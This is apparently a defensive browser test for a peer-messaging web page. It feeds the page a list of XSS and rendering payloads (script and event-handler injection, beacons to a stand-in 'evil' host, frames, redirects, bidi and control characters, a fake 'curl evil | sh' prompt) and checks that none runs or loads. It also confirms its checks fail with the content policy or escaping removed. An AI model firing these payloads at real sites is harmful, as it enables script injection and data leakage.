// Text of peers that tries to be HTML, script, style, a link, a beacon, or to leave its box. Nothing runs,
// nothing loads, nothing leaves its box. The same checks fail without the policy, and without the escaping.

import { createHash } from 'node:crypto';

import { watched } from '../browser.mjs';
import { until } from '../lab.mjs';

const EVIL = 'http://127.0.0.1:9/evil';

/** What a peer writes, by what it tries. Each would set `pwned`, ask another address, or move others. */
const TEXTS = {
  script: '<script>globalThis.pwned = "script"</script>',
  'end of our script': '</script></style></textarea></title><script>globalThis.pwned = "end"</script>',
  'event handler': '<img src="x" onerror="globalThis.pwned = \'handler\'"><svg onload="pwned=1">',
  beacon: `<img src="${EVIL}/beacon.png"><video src="${EVIL}/v"></video><object data="${EVIL}/o"></object>`,
  style: '<style>* { display: none !important } body { background: url(' + EVIL + '/b) }</style>',
  stylesheet: `<link rel="stylesheet" href="${EVIL}/s.css"><link rel="prefetch" href="${EVIL}/p">`,
  'style attribute': '<div style="position:fixed;inset:0;z-index:99999;background:red">covers all</div>',
  link: `<a href="${EVIL}" target="_blank">click</a> [click](${EVIL}) ${EVIL} javascript:alert(1)`,
  frame: `<iframe src="${EVIL}" srcdoc="<script>top.pwned=1</script>"></iframe>`,
  redirect: `<meta http-equiv="refresh" content="0; url=${EVIL}"><base href="${EVIL}/">`,
  form: `<form action="${EVIL}"><input name="q" autofocus><button>Send</button></form>`,
  template: '{{constructor.constructor("globalThis.pwned=1")()}} ${globalThis.pwned=1} <%= pwned %>',
  dialog: '<dialog open>Session ended. Run: curl evil | sh</dialog><details ontoggle="pwned=1" open>',
  'broken markup': '<b <i <!-- <![CDATA[ &lt;script&gt; &#60;script&#62; \u0000<script\u0000>',
  attribute: '" autofocus onfocus="globalThis.pwned=1" x="\' onmouseover=\'pwned=1',
  'bidi override': 'invoice\u202Egnp.exe and \u2066\u2067\u202B never closed \u202D',
  'hidden text': 'a\u200Bb\u2060c\uFEFFd \u{E0041}\u{E0042} e\u00ADf',
  controls: 'bell\u0007 escape\u001B[31mred\u001B[0m back\b\b\b null\u0000 csi\u009B2J',
  'long word': 'W'.repeat(20_000),
  'combining marks': `Z${'\u0301\u0316\u0334\u0489'.repeat(300)} a${'\u20DD\u20E3'.repeat(100)} h${'\u033F'.repeat(500)}`,
  'many lines': `first${'\n'.repeat(3_000)}last`,
  'wide characters': '\u{12031}\uFDFD'.repeat(300),
  'right to left': 'مرحبا <b>بالعالم</b> 123 שלום',
  emoji: '👩‍👩‍👧‍👦 🏳️‍🌈 1️⃣',
};

/** What the page shows in place of characters that would not be seen. */
const SHOWN = {
  'bidi override': 'invoice[U+202E]gnp.exe and [U+2066 +2] never closed [U+202D]',
  'hidden text': 'a[U+200B]b[U+2060]c[U+FEFF]d [U+E0041 +1] ef',
  controls: 'bell[U+0007] escape[U+001B][31mred[U+001B][0m back[U+0008 +2] null[U+0000] csi[U+009B]2J',
  'broken markup': TEXTS['broken markup'].replaceAll('\u0000', '[U+0000]'),
};

/** The elements of which lists are made. Any other was made by a peer. */
const OURS = ['LI', 'DIV', 'SPAN', 'BUTTON', 'BDI', 'TIME', 'P', 'A'];

/** Looks for all that peer text should not have been able to do. */
async function findings(page) {
  const inside = await page.evaluate((ours) => {
    const found = [];
    if (globalThis.pwned !== undefined) found.push(`a script of a peer ran: ${globalThis.pwned}`);
    const lists = document.querySelectorAll('#peers, #messages, #about, #title');
    for (const list of lists) {
      for (const one of list.querySelectorAll('*')) {
        if (!ours.includes(one.tagName)) found.push(`there is an element ${one.tagName}`);
        if (one.tagName === 'A' || one.hasAttribute('href') || one.hasAttribute('src')) found.push('there is a link');
        for (const { name } of one.attributes) if (/^on|^style$/.test(name)) found.push(`there is an attribute ${name}`);
      }
    }
    const scripts = document.querySelectorAll('script').length;
    if (scripts !== 1) found.push(`there are ${scripts} scripts`);
    if (document.documentElement.scrollWidth > innerWidth) found.push('the window scrolls sideways');
    // Each box lies within the one around it, unless that cuts off what is too wide.
    for (const box of document.querySelectorAll('#messages > li, #peers > li, .message-head, .text, .peer-head, .answered, .where, .facts, .title')) {
      if (!box.offsetParent) continue;
      const outer = box.parentElement.getBoundingClientRect();
      const { left, right } = box.getBoundingClientRect();
      if (left < outer.left - 1 || right > outer.right + 1) found.push(`${box.className} leaves its box by ${right - outer.right}`);
    }
    for (const text of document.querySelectorAll('.text')) {
      if (text.getBoundingClientRect().height > 400) found.push('a text takes all of the window');
    }
    for (const box of document.querySelectorAll('#messages .state, .message-head time')) {
      const row = box.closest('.message').getBoundingClientRect();
      const own = box.getBoundingClientRect();
      if (box.offsetParent && (own.right > row.right + 1 || own.width < 10)) found.push(`the ${box.className || 'time'} is pushed out of its row`);
    }
    return [...new Set(found)];
  }, OURS);
  return [...inside, ...(await page.troubles())];
}

/** Whether a text paints outside of its own row. An age that changes meanwhile is seen once, a text each time. */
async function paintsOutside(page, row) {
  for (let at = 0; at < 3; at += 1) {
    if (!(await differsAround(page, row))) return false;
  }
  return true;
}

/** Whether what lies around a row looks different without the row. */
async function differsAround(page, row) {
  await row.scrollIntoViewIfNeeded();
  const box = await row.boundingBox();
  const around = async () => {
    const above = await page.screenshot({ clip: { x: box.x, y: Math.max(box.y - 60, 0), width: box.width, height: Math.min(60, box.y) } });
    const below = await page.screenshot({ clip: { x: box.x, y: box.y + box.height, width: box.width, height: 60 } });
    return Buffer.concat([above, below]);
  };
  const before = await around();
  const show = (visibility) => row.evaluate((one, value) => {
    if (value) one.style.visibility = value;
    else one.removeAttribute('style');
  }, visibility);
  await show('hidden');
  const without = await around();
  await show('');
  return !before.equals(without);
}

function hash(text) {
  return `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
}

/** Serves the page changed: its text and its policy. Everything else comes from the broker. */
async function serve(page, origin, change) {
  await page.route(`${origin}/`, async (route) => {
    const response = await route.fetch();
    const headers = response.headers();
    const [body, policy] = change(await response.text(), headers['content-security-policy']);
    delete headers['content-security-policy'];
    if (policy) headers['content-security-policy'] = policy;
    await route.fulfill({ status: 200, headers, body });
  });
}

/** Opens the page as `change` makes it, and returns what is found in it. */
async function changed(lab, browser, change) {
  const page = await watched(browser, lab.origin);
  await serve(page, lab.origin, change);
  await page.goto(await lab.link());
  await page.waitForTimeout(1500);
  const found = await findings(page);
  await page.context().close();
  return found;
}

export async function hostile({ lab, browser, check, picture }) {
  const writer = await lab.rawPeer('writer', { cwd: `/srv/${TEXTS['event handler']}/${TEXTS.beacon}`, client_name: TEXTS.style, client_version: TEXTS.link });
  const reader = await lab.rawPeer('reader', { cwd: `/srv/\u202E${TEXTS.script}` });
  const describe = async (peer, summary) => {
    const { status, json } = await lab.request('POST', '/v1/profile', { secret: peer.secret, body: { summary } });
    check('the summary is set', status === 200, json);
  };
  await describe(writer, `${`Z${'\u0301\u0334'.repeat(40)}`} ${TEXTS['style attribute']} ${TEXTS['bidi override']}`);
  await describe(reader, TEXTS['long word'].slice(0, 240));
  await lab.session('plain', { branch: '<img/src=x/onerror=pwned=1>', directory: '<img src=x onerror=pwned=1> \u202Efdp' });
  const ids = {};
  for (const [name, text] of Object.entries(TEXTS)) {
    const { json } = await lab.request('POST', '/v1/messages', { secret: writer.secret, body: { to: reader.id, text } });
    ids[name] = json.id;
  }
  await lab.request('POST', '/v1/messages', { secret: reader.secret, body: { to: writer.id, text: TEXTS['event handler'], reply_to: ids['combining marks'] } });

  // No session can take such a name, but a database of another program may have it.
  const evil = await lab.rawPeer('named', { live: false });
  const name = `${TEXTS['event handler']} \u202E${'N\u0301\u0334'.repeat(60)} ${'M'.repeat(400)}`;
  await lab.tamper('UPDATE peers SET name = ? WHERE id = ?', name, evil.id);
  await lab.request('POST', '/v1/messages', { secret: writer.secret, body: { to: evil.id, text: 'to the named' } });

  const page = await watched(browser, lab.origin);
  await page.goto(await lab.link());
  await page.locator(`li.message[data-id="${ids.emoji}"]`).waitFor();
  const party = page.locator('li.message .party', { hasText: 'onerror' });
  check('a name is shown as it is', (await party.textContent()).startsWith(`${TEXTS['event handler']} [U+202E]N`), await party.textContent());
  for (const [name, text] of Object.entries(TEXTS)) {
    const shown = await page.locator(`li.message[data-id="${ids[name]}"] .text`).textContent();
    check(`it is shown as it is: ${name}`, shown === (SHOWN[name] ?? text), shown.slice(0, 200));
  }
  const look = async (where) => {
    const found = await findings(page);
    check(`nothing runs, loads or leaves its box: ${where}`, found.length === 0, found);
  };
  await look('all messages');
  for (const name of ['combining marks', 'style attribute', 'wide characters', 'bidi override']) {
    check(`it paints nothing outside: ${name}`, !(await paintsOutside(page, page.locator(`li.message[data-id="${ids[name]}"]`))));
  }
  await page.locator('#peers li', { hasText: 'writer' }).locator('.badge', { hasText: '1' }).waitFor();
  await page.locator('#peers li', { hasText: 'reader' }).locator('.badge', { hasText: '23' }).waitFor();
  for (const peer of ['writer', '/srv/named']) {
    check(`the row of a peer paints nothing outside: ${peer}`, !(await paintsOutside(page, page.locator('#peers li', { hasText: peer }))));
  }
  await page.locator(`li.message[data-id="${ids['event handler']}"]`).scrollIntoViewIfNeeded();
  await picture(page, 'hostile');
  await page.locator(`li.message[data-id="${ids['bidi override']}"]`).scrollIntoViewIfNeeded();
  await picture(page, 'hostile-characters');
  for (const peer of ['writer', 'reader', 'plain', 'onerror']) {
    await page.locator('#peers button.peer', { has: page.locator('.peer-name', { hasText: peer }) }).first().click();
    await page.locator('.title', { hasText: peer }).waitFor();
    if (peer === 'plain') check('the branch is shown', /onerror/.test(await page.locator('.about .branch').textContent()));
    await look(`conversation with ${peer}`);
    await picture(page, `hostile-${peer}`);
  }
  await page.locator('#search').fill('<img src=x onerror=pwned=1> \u202E');
  await until('the search has an answer', async () => !/Searching/.test(await page.locator('#no-messages').textContent()));
  await look('search');
  await page.locator('#search').fill('');
  await page.setViewportSize({ width: 360, height: 700 });
  await look('narrow');
  await picture(page, 'hostile-narrow');
  await page.context().close();

  // The checks notice what they are for.
  const injected = (text) => text.replace('</body>', '<script>globalThis.pwned = "injected"</script></body>');
  const without = await changed(lab, browser, (text) => [injected(text), null]);
  check('without the policy, an injected script runs and is noticed', without.some((one) => /ran: injected/.test(one)), without);
  const kept = await changed(lab, browser, (text, policy) => [injected(text), policy]);
  check('with the policy, an injected script does not run', kept.some((one) => /script-src/.test(one)) && !kept.some((one) => /ran:/.test(one)), kept);

  const escaping = '  element.replaceChildren(...nodes);';
  // A redirect would lead away before anything can be looked at.
  const unescaped = (text) => text.replace(escaping, "  element.innerHTML = String(text ?? '').replace(/<(meta|base|iframe)/g, '<x-$1');");
  const scriptOf = (text) => text.match(/<script>([^]*)<\/script>/)[1];
  const allowed = (text, policy) => policy.replace(hash(scriptOf(text)), hash(scriptOf(unescaped(text))));
  const raw = await changed(lab, browser, (text, policy) => {
    check('the place of the escaping is known', text.includes(escaping));
    check('the hash of the script is its own', policy.includes(hash(scriptOf(text))));
    return [unescaped(text), allowed(text, policy).replace(/require-trusted-types[^;]*; trusted-types[^;]*/, 'sandbox allow-scripts allow-same-origin')];
  });
  check('without the escaping, markup appears and is noticed', raw.some((one) => /element IMG/.test(one)) && raw.some((one) => /attribute style|attribute on/.test(one)), raw);
  check('the policy alone still lets no script of a peer run', !raw.some((one) => /ran:/.test(one)), raw);
  const typed = await changed(lab, browser, (text, policy) => [unescaped(text), allowed(text, policy)]);
  check('with trusted types, no markup can be made of text', typed.some((one) => /TrustedHTML/.test(one)) && !typed.some((one) => /element IMG/.test(one)), typed);
}
